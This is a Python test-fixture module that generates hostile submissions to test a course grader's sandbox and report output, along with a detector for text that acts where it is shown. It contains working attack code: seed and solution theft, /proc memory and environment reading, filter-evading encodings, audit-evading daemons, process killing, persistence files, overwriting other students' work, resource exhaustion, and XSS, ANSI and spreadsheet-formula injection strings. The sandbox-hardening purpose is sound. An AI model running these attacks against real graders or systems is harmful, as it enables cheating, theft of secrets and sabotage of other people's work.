"""A hostile class: submissions that attack the grader, written for the course's tests.

Each attacker is a practice file whose module-level code (run when the judge imports it)
and functions try one kind of attack on the grader, as a student who knows the
teacher's layout would (the paths of the repository, the secret seed file, the
submissions, the grades, HOME and the venv are written into the attack: the worst case).
What an attack finds it prints, encoded so that a plain-text filter would miss it;
whatever answer it steals it returns. Attackers never compute an answer themselves, so any
point one gets was stolen. Every payload an attack writes is a comment (``# MLAHOSTILE``)
and every process it starts carries MARK in its command line, so a sandbox that failed
would leave traces the test finds and removes, not damage.

Other attacks are on what crosses back into the teacher's process: texts of tens of
MiB (an exception's message, printed output, a returned string), text that acts where it
is shown (HOSTILE_TEXT: ANSI escapes, HTML, Markdown links, bidi controls, formulas, NUL,
CR), an attempt that sleeps just under every case's limit, and, beside the files
(``conductor_attacks``): notebooks built to be slow to read (tests/slow_notebooks.py), a
notebook whose refusal quotes hostile code, entry names that act, an entry whose name
reads as an honest student's id, a time claimed inside the submission, a zip of 5,000
long names. ``inert_problems`` says where a written report lets such text act.
"""
from __future__ import annotations

import textwrap
from pathlib import Path

MARK = "MLAHOSTILE"
# text that acts where it is shown: a terminal (ANSI CSI and OSC 8 hyperlink, C1 CSI),
# Markdown/HTML, a spreadsheet, the order of characters (bidi), and control bytes
HOSTILE_TEXT = ("\x1b[2J\x1b[31mRED\x1b[0m", "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07",
                "\x9b31mC1", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
                "![pic](http://evil.example/p.png)", "\u202eexe.cod", "\u2066iso\u2069",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "NUL\x00byte", "CR\roverwrite",
                "line\u2028sep", "@SUM(1+1)*cmd|' /C calc'!A0")

PRELUDE = r'''
# --- hostile prelude: helpers every attack uses
import base64, glob, os, re, signal, sys, time
K = __KNOWN__
MARK = K["mark"]


def note(tag, data=""):
    print("[%s] %s" % (tag, str(data)[:300]), flush=True)


LEAKS = []


def leak(text):
    """Every run of 6+ digits in text, in the encodings a filter for the plain number misses
    (printed now, and kept for an exception's message: both reach the student's feedback)."""
    for d in sorted(set(re.findall(r"\d{6,}", str(text))))[:50]:
        LEAKS.append(" ".join([d[::-1], " ".join(d), base64.b64encode(d.encode()).decode(),
                               d.encode().hex(), hex(int(d))]))
        print("LEAK", LEAKS[-1], flush=True)


_ROOT = []


def _rel(path):
    if not _ROOT:
        _ROOT.append(os.open("/", os.O_RDONLY))   # a descriptor for /, then paths relative to it
    return path.lstrip("/")


def read(path, n=1 << 20):
    try:
        fd = os.open(_rel(path), os.O_RDONLY, dir_fd=_ROOT[0])
        try:
            return os.read(fd, n)
        finally:
            os.close(fd)
    except OSError:
        return None


def write(path, data=b"# MLAHOSTILE\n"):
    try:
        fd = os.open(_rel(path), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=_ROOT[0])
        os.write(fd, data)
        os.close(fd)
        note("WROTE", path)
        return True
    except OSError as e:
        note("write refused", "%s: %s" % (path, e.strerror))
        return False


def listdir(path):
    try:
        fd = os.open(_rel(path), os.O_RDONLY | os.O_DIRECTORY, dir_fd=_ROOT[0])
        try:
            return os.listdir(fd)
        finally:
            os.close(fd)
    except OSError:
        return []


def spawn(argv, setsid=True):
    """Start a program with no audit event: _posixsubprocess.fork_exec, else libc's fork."""
    try:
        import _posixsubprocess
        r, w = os.pipe()
        try:
            return _posixsubprocess.fork_exec(
                argv, [os.fsencode(argv[0])], True, (), None, None, -1, -1, -1, -1, -1, -1,
                r, w, True, setsid, -1, None, None, -1, -1, None, False)
        finally:
            os.close(r)
            os.close(w)
    except Exception as e:
        note("fork_exec failed", repr(e))
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.fork()
    if pid == 0:
        if setsid:
            libc.setsid()
        args = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
        libc.execv(argv[0].encode(), args)
        libc._exit(127)
    return pid


def procs():
    """pid -> command line of every process this attempt can see."""
    out = {}
    for p in listdir("/proc"):
        if p.isdigit():
            out[int(p)] = (read("/proc/%s/cmdline" % p) or b"").replace(b"\0", b" ")
    return out


def the_run():
    """The teacher's grading processes: the conductor (its command line names the grades
    folder) and its workers (its children). Nothing else is ever touched."""
    ps = procs()
    conductor = [p for p, c in ps.items() if K["out"].encode() in c and b"-m classroom" in c]
    workers = []
    for p in ps:
        st = read("/proc/%d/stat" % p) or b""
        try:
            ppid = int(st.rsplit(b")", 1)[1].split()[1])
        except (IndexError, ValueError):
            continue
        if ppid in conductor:
            workers.append(p)
    return conductor, workers


def stolen(name):
    """A model answer read from the repository (or None)."""
    src = read(K["repo"] + "/solutions/" + name)
    if not src:
        return None
    ns = {}
    exec(compile(src, name, "exec"), ns)
    note("STOLE", name)
    return ns


note("attack", K["attack"])
# --- the attack
'''

ATTACKS = {
    "dir_fd": ("reads the secret seed file, the grades and solutions/ through os.open(dir_fd=) "
               "and writes into the judge's specs and the submissions the same way", r'''
for p in (K["secret"], K["out"] + "/seed.txt", K["out"] + "/grading.json", K["repo"] + "/solutions/p01_kv_cache_bytes.py"):
    data = read(p)
    note("read " + p, "%d bytes" % len(data) if data is not None else "refused")
    leak(data)
write(K["repo"] + "/grader/problems/p01_kv_cache_bytes/spec.py", b"# MLAHOSTILE\nPROBLEM = None\n")
write(K["subs"] + "/student01/practice/p01_kv_cache_bytes.py")
S = stolen("p01_kv_cache_bytes.py")
def kv_cache_bytes(*a, **k):
    return S["kv_cache_bytes"](*a, **k) if S else None
'''),
    "proc": ("lists /proc and reads every process's command line, environment and working "
             "folder (os.readlink, os.listdir), hunting for the seed", r'''
for pid, cmd in sorted(procs().items()):
    note("proc %d" % pid, cmd[:120])
    leak(cmd)
    leak(read("/proc/%d/environ" % pid))
    try:
        cwd = os.readlink("/proc/%d/cwd" % pid)
        note("cwd", cwd)
        for name in listdir(cwd):
            leak(name)
            leak(read(cwd + "/" + name, 4096))
    except OSError:
        pass
def kv_cache_bytes(*a, **k):
    if LEAKS:
        raise ValueError("LEAK " + " | ".join(LEAKS))
    return None
'''),
    "daemon": ("starts setsid daemons with _posixsubprocess.fork_exec (no audit event) and a "
               "double fork through libc, which wait for the run to end and then rewrite "
               "gradebook.csv and the cached verdicts", r'''
script = ("sleep 3; echo student,total > %s/gradebook.csv; "
          "for f in %s/.cache/*/*.json; do echo '{}' > \"$f\"; done; sleep 600" % (K["out"], K["out"]))
note("daemon", spawn(["/bin/sh", "-c", script, MARK]))
import ctypes
libc = ctypes.CDLL(None)
if libc.fork() == 0:            # a double fork: the grandchild is nobody's child
    libc.setsid()
    if libc.fork() == 0:
        args = (ctypes.c_char_p * 5)(b"/bin/sh", b"-c", script.encode(), MARK.encode(), None)
        libc.execv(b"/bin/sh", args)
    libc._exit(0)
def kv_cache_bytes(*a, **k):
    return None
'''),
    "signals": ("finds the conductor and the workers in /proc and SIGSTOPs/SIGKILLs them "
                "(os.kill and signal.pidfd_send_signal), SIGSTOPs its own parent, and signals "
                "the test's canary process, for three seconds", r'''
end = time.monotonic() + 3
hits = set()
while time.monotonic() < end:
    conductor, workers = the_run()
    for pid in conductor + workers + [K["canary"], os.getppid()]:
        for how in ("kill", "pidfd"):
            try:
                if how == "kill":
                    os.kill(pid, signal.SIGSTOP if pid in conductor + [os.getppid()] else signal.SIGKILL)
                else:
                    fd = os.pidfd_open(pid)
                    signal.pidfd_send_signal(fd, signal.SIGKILL)
                hits.add((pid, how))
            except (OSError, AttributeError, PermissionError):
                pass
    time.sleep(0.05)
note("signalled", sorted(hits))
def kv_cache_bytes(*a, **k):
    return None
'''),
    "token": ("walks sys._getframe() up to the child's main() for the result pipe's token, then "
              "forges records: garbled results, fields of the wrong type, 'finished' early; "
              "and writes forged lines to every descriptor", r'''
def kv_cache_bytes(*a, **k):
    f = sys._getframe()
    job = send = None
    while f is not None:
        job = job or f.f_locals.get("job")
        send = send or f.f_locals.get("send")
        f = f.f_back
    if isinstance(job, dict):
        note("token", job.get("token"))
        leak(job)
    import json
    for i in range(40):
        rec = {"event": "done", "i": i, "status": "ok",
               "result": {"__nd__": "<f8", "shape": [10**6], "b64": "!!!"},
               "mutated": [1, {"x": 2}], "launches": "many", "from_kernel": "yes"}
        if send is not None:
            send(rec)
        for fd in range(3, 64):
            try:
                os.write(fd, ((job or {}).get("token", "0" * 32) + "\t" + json.dumps(rec) + "\n").encode())
            except OSError:
                pass
    if send is not None:
        send({"event": "finished"})
    return None
'''),
    "persist": ("plants code for later: a .pth in the venv's site-packages, usercustomize.py, "
                "IPython startup and .bashrc in HOME, secrets.py and sitecustomize.py in the "
                "repository and in its working folder", r'''
for site in K["sites"]:
    write(site + "/zz_mlahostile.pth")
for home in (K["home"], os.path.expanduser("~")):
    write(home + "/.bashrc")
    write(home + "/.ipython/profile_default/startup/00-mlahostile.py")
    write(home + "/.local/lib/python3.11/site-packages/usercustomize.py")
for folder in (K["repo"], os.getcwd()):
    write(folder + "/secrets.py")
    write(folder + "/sitecustomize.py")
def kv_cache_bytes(*a, **k):
    return None
'''),
    "seed": ("reads the seed from its argv, its environment, its working folder, the teacher's "
             "seed file, the grades folder and the worker's memory, and prints it reversed, "
             "digit-spaced, base64 and hex", r'''
leak(sys.argv)
leak(dict(os.environ))
leak(read("/proc/self/cmdline"))
for name in os.listdir("."):
    leak(name)
    leak(read(os.path.abspath(name), 4096))
for p in (K["secret"], K["out"] + "/seed.txt"):
    try:
        leak(open(p).read())
    except OSError:
        pass
    leak(read(p))
leak(os.environ.get("MLA_CLASS_SEED"))
conductor, workers = the_run()
for pid in workers + conductor + [os.getppid()]:
    maps = read("/proc/%d/maps" % pid) or b""
    got = 0
    for line in maps.decode("ascii", "replace").splitlines():
        if "rw-p" not in line or got > 64 << 20:
            continue
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
            os.lseek(fd, lo, 0)
            chunk = os.read(fd, min(hi - lo, 8 << 20))
            os.close(fd)
        except OSError:
            continue
        got += len(chunk)
        for m in re.finditer(rb'"seed": (\d+)', chunk):
            leak(m.group(1).decode())
def kv_cache_bytes(*a, **k):
    if LEAKS:
        raise ValueError("LEAK " + " | ".join(LEAKS))
    return None
'''),
    "solutions": ("reads solutions/ (open, dir_fd, sys.path + import) and runs the model answer", r'''
S = stolen("p01_kv_cache_bytes.py")
if S is None:
    try:
        sys.path.insert(0, K["repo"])
        import importlib
        S = vars(importlib.import_module("solutions.p01_kv_cache_bytes"))
        note("STOLE", "by import")
    except Exception as e:
        note("import refused", repr(e)[:200])
def kv_cache_bytes(*a, **k):
    return S["kv_cache_bytes"](*a, **k) if S else None
'''),
    "overwrite": ("overwrites the other students' staged copies, the submissions folder and "
                  "the cached verdicts with an unchanged stub", r'''
stub = read(K["repo"] + "/practice/p01_kv_cache_bytes.py") or b"# MLAHOSTILE stub\n"
for pattern in (K["out"] + "/.work/*/*.py", K["subs"] + "/*/practice/*.py", K["out"] + "/.cache/*/*.json"):
    for path in glob.glob(pattern):
        write(path, stub)
for sid in ("student01", "student02", "student03"):
    write("%s/%s/practice/p01_kv_cache_bytes.py" % (K["subs"], sid), stub)
def kv_cache_bytes(*a, **k):
    return None
'''),
    "forkstorm": ("starts 300 setsid sleepers (fork_exec), each meant to outlive the run", r'''
started = 0
for i in range(300):
    try:
        spawn(["/bin/sh", "-c", "sleep 600", MARK])
        started += 1
    except Exception as e:
        note("fork refused", repr(e)[:100])
        break
note("sleepers", started)
def kv_cache_bytes(*a, **k):
    return None
'''),
    "huge_message": ("raises an exception with a 40 MiB message in every call (the record of "
                     "each problem once grew to 126 MB)", r'''
def kv_cache_bytes(*a, **k):
    raise ValueError("M" * (40 << 20))
'''),
    "huge_output": ("prints 40 MiB through print and os.write to its stdout and stderr, in every call", r'''
def kv_cache_bytes(*a, **k):
    block = "O" * (1 << 20)
    for _ in range(20):
        print(block, flush=True)
        os.write(2, block.encode())
    return None
'''),
    "huge_answer": ("returns a 40 MiB string, a list of 5 million numbers and a structure nested "
                    "2,000 deep", r'''
N = [0]
def kv_cache_bytes(*a, **k):
    N[0] += 1
    if N[0] % 3 == 1:
        return "S" * (40 << 20)
    if N[0] % 3 == 2:
        return list(range(5_000_000))
    x = []
    for _ in range(2000):
        x = [x]
    return x
'''),
    "text_acts": ("prints, raises and returns text that acts where it is shown: ANSI escapes, "
                  "<img>, a javascript: link, bidi controls, a spreadsheet formula, NUL, CR", r'''
T = __HOSTILE_TEXT__
print(" ".join(T), flush=True)
os.write(1, " ".join(T).encode("utf-8", "replace") + b"\\n")
N = [0]
def kv_cache_bytes(*a, **k):
    N[0] += 1
    print(T[N[0] % len(T)], flush=True)
    if N[0] % 2:
        raise ValueError(" | ".join(T))
    return {t: t for t in T}
'''),
    "sleeper": ("sleeps just under the case's time limit in every case (and at import): holds "
                "its worker as long as the limits allow", r'''
time.sleep(4.5)
def kv_cache_bytes(*a, **k):
    time.sleep(4.6)
    return None
'''),
    "memfd": ("maps a 2 GiB memfd and touches every page (not anonymous memory, so not under "
              "RLIMIT_DATA)", r'''
import mmap
def kv_cache_bytes(*a, **k):
    fd = os.memfd_create("x")
    os.ftruncate(fd, 2 << 30)
    m = mmap.mmap(fd, 2 << 30)
    for i in range(0, 2 << 30, 4096):
        m[i] = 1
    note("memfd", "2 GiB held")
    return None
'''),
    "bigwrite": ("writes 500 MiB outside its scratch folder (/tmp, HOME, the repository)", r'''
def kv_cache_bytes(*a, **k):
    block = b"#" * (1 << 20)
    for folder in ("/tmp", os.path.expanduser("~"), K["home"], K["repo"]):
        path = folder + "/mlahostile.big"
        try:
            fd = os.open(_rel(path), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644,
                         dir_fd=_ROOT[0] if _ROOT else os.open("/", os.O_RDONLY))
            for _ in range(500):
                os.write(fd, block)
            os.close(fd)
            note("WROTE 500 MiB", path)
        except OSError as e:
            note("big write stopped", "%s: %s" % (path, e.strerror))
    return None
'''),
}


def attack_source(name: str, known: dict) -> bytes:
    description, body = ATTACKS[name]
    head = f'"""Hostile submission "{name}": {description}."""\n'
    prelude = PRELUDE.replace("__KNOWN__", repr(dict(known, attack=name)))
    body = body.replace("__HOSTILE_TEXT__", repr(HOSTILE_TEXT))
    return (head + prelude + textwrap.dedent(body)).encode()


# ----------------------------------------------------------------------------- at the conductor

ACTING_NAMES = ("<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "\x1b[2Jred",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "\u202eexe.cod")


def conductor_attacks(root: Path, stub: bytes) -> dict:
    """{entry name: {relative path: bytes}} (an entry name ending in .zip: the bytes of
    the zip): what attacks the teacher's process rather than the sandbox. Every one of them
    scores nothing by construction (stubs, notebooks that are refused or read slowly)."""
    from tests import slow_notebooks as sn
    out: dict = {}
    for name, make in sn.SLOW.items():   # slow to read: each within the byte limits
        out[f"x_nb_{name}"] = {"p01_kv_cache_bytes.ipynb": make()}
    # a refusal that quotes the notebook's code: the line holds text that acts
    # (the refusal quotes the first line of the statement, cut at 70 characters)
    out["x_nb_acting_reason"] = {"week1.ipynb": sn.notebook([
        "for helper in [1]:  # <img src=x onerror=alert(1)>\x1b[31m\u202e\x9b1m\x0b=1\n    pass",
        "def kv_cache_bytes(*args, **kwargs):\n    return helper"])}
    for k, name in enumerate(ACTING_NAMES):   # entry names that act (ids are made safe; the names are shown)
        out[name] = {"practice/p01_kv_cache_bytes.py": stub, f"notes/{HOSTILE_TEXT[k]}.py": b"x = 1\n"}
    # reads as student01's id: must not take her roster row, her work or her grade
    out["student01!"] = {"practice/p01_kv_cache_bytes.py": stub, "submitted_at.txt": b"2000-01-01T00:00:00Z"}
    # a time claimed inside the zip (and old zip entry times): shown, never trusted
    out["x_claims_early.zip"] = _zip({"submitted_at.txt": b"2000-01-01T00:00:00Z",
                                      "practice/p01_kv_cache_bytes.py": stub}, (1999, 1, 1, 0, 0, 0))
    # 5,000 entries with long names: the notes about them, and matching.md, stay bounded
    out["x_many_names.zip"] = _zip({f"junk/{i:04d}_{'n' * 3000}.py": b"" for i in range(5000)},
                                   (2024, 1, 1, 0, 0, 0))
    return out


def _zip(files: dict, when: tuple) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for rel, data in files.items():
            zf.writestr(zipfile.ZipInfo(rel, date_time=when), data)
    return buf.getvalue()


# ----------------------------------------------------------------------------- is it inert?

import unicodedata  # noqa: E402


def _acting_chars(text: str, allowed: str = "\n\t") -> list:
    """Characters of ``text`` that act where text is shown: controls (C0, DEL, C1), format
    characters (bidi, zero-width), line/paragraph separators, lone surrogates."""
    return sorted({hex(ord(c)) for c in text if c not in allowed and (
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"))})


def _outside_code_spans(line: str) -> str:
    """The line with every CommonMark code span removed (a run of n backticks opens one,
    the next run of exactly n closes it)."""
    import re
    out, i = [], 0
    runs = [(m.start(), m.end()) for m in re.finditer(r"`+", line)]
    k = 0
    while k < len(runs):
        start, end = runs[k]
        n = end - start
        close = next((j for j in range(k + 1, len(runs)) if runs[j][1] - runs[j][0] == n), None)
        if close is None:
            k += 1
            continue
        out.append(line[i:start])
        i = runs[close][1]
        k = close + 1
    out.append(line[i:])
    return "".join(out)


def inert_problems(folder: Path, terminal: str = "") -> list[str]:
    """Where the reports in ``folder`` (and the terminal output) let text act: raw control,
    format or separator characters anywhere; in Markdown, HTML tags, links and images
    outside code spans; in a CSV, a cell a spreadsheet would run; a JSON file that is not
    valid or whose strings hold such characters."""
    import csv
    import io
    import json
    import re
    bad = []
    if _acting_chars(terminal, "\n"):
        bad.append(f"the terminal: {_acting_chars(terminal, chr(10))}")
    for p in sorted(folder.rglob("*")):
        if not p.is_file() or p.suffix not in (".md", ".csv", ".json") or ".cache" in p.parts:
            continue
        rel = p.relative_to(folder).as_posix()
        text = p.read_bytes().decode("utf-8", "replace")
        if p.suffix == ".json":
            try:
                data = json.loads(text)
            except ValueError as e:
                bad.append(f"{rel}: not valid JSON ({e})")
                continue
            strings = []

            def walk(x):
                if isinstance(x, str):
                    strings.append(x)
                elif isinstance(x, dict):
                    for k, v in x.items():
                        walk(k)
                        walk(v)
                elif isinstance(x, list):
                    for v in x:
                        walk(v)
            walk(data)
            acting = sorted({c for s in strings for c in _acting_chars(s)})
            if acting:
                bad.append(f"{rel}: strings hold {acting}")
            continue
        if _acting_chars(text):
            bad.append(f"{rel}: {_acting_chars(text)}")
        if p.suffix == ".csv":
            for row in csv.reader(io.StringIO(text)):
                cells = [c for c in row if c.lstrip(" ")[:1] in ("=", "+", "-", "@")]
                if cells:
                    bad.append(f"{rel}: cells a spreadsheet would run: {cells[:3]}")
        else:
            for n, line in enumerate(text.splitlines(), start=1):
                rest = _outside_code_spans(line)
                if re.search(r"<[A-Za-z/!?]|\]\(|!\[|\[[^\]]*\]:|https?://|javascript:", rest):
                    bad.append(f"{rel}, line {n}: markup outside a code span: {line[:160]!r}")
    return bad


# ----------------------------------------------------------------------------- honest work

def honest_class(root: Path) -> dict:
    """{student: {relative path: bytes}}: right, wrong, named slips, not started, a zip."""
    from tests import synthetic_class as sy
    from grader import runner
    P = {n: runner.find(n) for n in (1, 4, 5)}
    R, W = sy.right, sy.wrong

    def files(kinds, sid):
        return {f"practice/{P[n].filename}": (k(P[n], sid) if callable(k) else k).text for n, k in kinds.items()}
    slip1 = (sy.ROOT / "solutions" / "p01_kv_cache_bytes.py").read_text().replace(
        "* n_layers * bytes_per_element", "* bytes_per_element")
    return {
        "student01": files({1: R, 4: R, 5: R}, "student01"),
        "student02": files({1: W, 4: R, 5: sy.stub}, "student02"),
        "student03": {**files({4: lambda p, s: sy.noncausal_p04(s), 5: R}, "student03"),
                      "practice/p01_kv_cache_bytes.py": f"# student03\n{slip1}".encode()},
        "student05": files({1: sy.stub, 4: sy.stub, 5: sy.stub}, "student05"),
        "student06": files({1: R, 5: R}, "student06"),
        "student09": files({1: R, 4: R, 5: W}, "student09"),
    }


__all__ = ["ATTACKS", "attack_source", "honest_class", "conductor_attacks", "inert_problems",
           "HOSTILE_TEXT", "ACTING_NAMES", "MARK"]
